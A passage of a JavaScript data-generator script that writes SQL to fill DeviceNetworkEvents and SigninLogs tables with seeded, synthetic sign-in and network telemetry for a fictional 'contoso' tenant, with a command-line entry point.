    InitiatingProcessId: `(n % 60000 + 4)::BIGINT`,
    InitiatingProcessAccountDomain: `'contoso'`,
    InitiatingProcessAccountName: u.account,
    InitiatingProcessAccountUpn: u.upn,
    ReportId: 'i::BIGINT',
    TenantId: `'4f6c1f2e-2b6a-4c41-9f39-7d8c1a0e5b11'`,
    Type: `'DeviceNetworkEvents'`,
  };
  const names = Object.keys(columns);
  return `INSERT INTO ${q(table.storageName)} (${names.map(col).join(', ')}, "__ingestion_time", "__batch_id")
    SELECT ${names.map((n) => columns[n]).join(', ')}, TIMESTAMP '${END}', 1
    FROM (
      SELECT *, (d * 7919) % ${users} AS u
      FROM (
        SELECT i, TIMESTAMP '${END}' - INTERVAL 30 DAY + to_microseconds((i * ${SPAN_US}::HUGEINT // ${rows})::BIGINT) AS ts,
          CASE WHEN ${H(seed, 1)} % 10 < 3 THEN ${H(seed, 2)} % ${Math.max(1, Math.round(devices / 10))} ELSE ${H(seed, 2)} % ${devices} END AS d,
          ${H(seed, 3)} % 100 AS r,
          ${H(seed, 4)} % 100 AS k,
          ${H(seed, 5)} AS n
        FROM range(${from}, ${to}) t(i)
      )
    )`;
}

// ───────────────────────────── SigninLogs ─────────────────────────────

function signinLogsSql(table, rows, { seed, users }, from, to) {
  const col = (n) => q(table.columns.find((c) => c.name === n).storageName);
  const u = userNames('u');
  const apps = [
    ['Microsoft Teams', '1fec8e78-bce4-4aaf-ab1b-5451cc387264'],
    ['Office 365 Exchange Online', '00000002-0000-0ff1-ce00-000000000000'],
    ['Microsoft Office', 'd3590ed6-52b3-4102-aeff-aad2292ab01c'],
    ['Azure Portal', 'c44b4083-3bb0-49c1-b47d-974e53cbdf3c'],
    ['OneDrive SyncEngine', 'ab9b8c07-8f02-4f72-87fa-80105867a763'],
    ['Microsoft Edge', 'ecd6b820-32c2-49b6-98a6-444530e5a77a'],
    ['Azure CLI', '04b07795-8ddb-461a-bbee-02f9e1bf7b46'],
    ['Salesforce', 'a0c2b0f0-5c0c-4b7e-9b0d-1b2a3c4d5e6f'],
  ];
  const results = `CASE WHEN r < 85 THEN '0' WHEN r < 91 THEN '50126' WHEN r < 95 THEN '50074' WHEN r < 97 THEN '50140' WHEN r < 98 THEN '53003' ELSE '500121' END`;
  const columns = {
    TimeGenerated: 'ts',
    CreatedDateTime: 'ts',
    UserPrincipalName: u.upn,
    UserDisplayName: u.display,
    UserId: `left(md5('user' || u::VARCHAR), 8) || '-' || substr(md5('user' || u::VARCHAR), 9, 4) || '-4' || substr(md5('user' || u::VARCHAR), 14, 3) || '-a' || substr(md5('user' || u::VARCHAR), 18, 3) || '-' || right(md5('user' || u::VARCHAR), 12)`,
    AppDisplayName: `[${apps.map((a) => s(a[0])).join(', ')}][1 + (n % ${apps.length})::BIGINT]`,
    AppId: `[${apps.map((a) => s(a[1])).join(', ')}][1 + (n % ${apps.length})::BIGINT]`,
    IPAddress: `CASE WHEN k < 90 THEN '203.0.' || (u % 250)::VARCHAR || '.' || (u // 250 % 250 + 1)::VARCHAR ELSE (n % 200 + 20)::VARCHAR || '.' || (n // 200 % 250)::VARCHAR || '.' || (n // 50000 % 250)::VARCHAR || '.' || (n % 251)::VARCHAR END`,
    Location: `CASE WHEN k < 90 THEN ${pick(['US', 'US', 'GB', 'DE', 'IN'], 'u')} ELSE ${pick(['US', 'NL', 'RU', 'CN', 'BR', 'NG', 'SG'], 'n')} END`,
    ResultType: results,
    ResultDescription: `CASE WHEN r < 85 THEN '' WHEN r < 91 THEN 'Invalid username or password or Invalid on-premise username or password.' WHEN r < 95 THEN 'Strong Authentication is required.' WHEN r < 97 THEN 'This occurred due to ''Keep me signed in'' interrupt when the user was signing in.' WHEN r < 98 THEN 'Access has been blocked by Conditional Access policies.' ELSE 'Authentication failed during strong authentication request.' END`,
    ClientAppUsed: `${pick(['Browser', 'Browser', 'Mobile Apps and Desktop clients', 'Mobile Apps and Desktop clients', 'Exchange ActiveSync', 'IMAP4'], 'n // 3')}`,
    UserAgent: `${pick(['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15', 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17029; Pro)', 'python-requests/2.31.0'], 'n // 5')}`,
    IsInteractive: `n % 3 <> 0`,
    ConditionalAccessStatus: `CASE WHEN r >= 97 AND r < 98 THEN 'failure' WHEN n % 4 = 0 THEN 'notApplied' ELSE 'success' END`,
    AuthenticationRequirement: `CASE WHEN n % 5 < 2 THEN 'multiFactorAuthentication' ELSE 'singleFactorAuthentication' END`,
    Status: `('{"errorCode":' || ${results} || ',"failureReason":"' || CASE WHEN r < 85 THEN 'Other.' ELSE 'See ResultDescription.' END || '"}')::JSON`,
    LocationDetails: `('{"countryOrRegion":"' || CASE WHEN k < 90 THEN ${pick(['US', 'US', 'GB', 'DE', 'IN'], 'u')} ELSE ${pick(['US', 'NL', 'RU', 'CN', 'BR', 'NG', 'SG'], 'n')} END || '","city":"' || ${pick(['Seattle', 'London', 'Berlin', 'Pune', 'Amsterdam', 'Sao Paulo'], 'n // 11')} || '"}')::JSON`,
    DeviceDetail: `('{"operatingSystem":"' || ${pick(['Windows 10', 'Windows 11', 'MacOs', 'iOS 17', 'Android'], 'u')} || '","browser":"' || ${pick(['Edge 120.0.0', 'Chrome 120.0.0', 'Safari 17.1', 'Rich Client 16.0'], 'n // 13')} || '"}')::JSON`,
    Category: `'SignInLogs'`,
    OperationName: `'Sign-in activity'`,
    Level: `'4'`,
    Type: `'SigninLogs'`,
    TenantId: `'4f6c1f2e-2b6a-4c41-9f39-7d8c1a0e5b11'`,
  };
  const names = Object.keys(columns);
  return `INSERT INTO ${q(table.storageName)} (${names.map(col).join(', ')}, "__ingestion_time", "__batch_id")
    SELECT ${names.map((n) => columns[n]).join(', ')}, TIMESTAMP '${END}', 1
    FROM (
      SELECT i, TIMESTAMP '${END}' - INTERVAL 30 DAY + to_microseconds((i * ${SPAN_US}::HUGEINT // ${rows})::BIGINT) AS ts,
        ${H(seed, 1)} % ${users} AS u,
        ${H(seed, 2)} % 100 AS r,
        ${H(seed, 3)} % 100 AS k,
        ${H(seed, 4)} AS n
      FROM range(${from}, ${to}) t(i)
    )`;
}

// ───────────────────────────── command line ─────────────────────────────

if (import.meta.url === `file://${process.argv[1]}`) {
  const { parseArgs } = await import('node:util');
  const { values: args } = parseArgs({
    options: {
      rows: { type: 'string', default: '1000000' },
      dir: { type: 'string' },
      seed: { type: 'string', default: '7' },
    },
  });
  if (!args.dir) throw new Error('--dir is required');
  const meta = await ensureData({
    dir: args.dir,
    rows: Number(args.rows),
    seed: Number(args.seed),
    log: console.error,
  });
  console.log(JSON.stringify(meta));
}
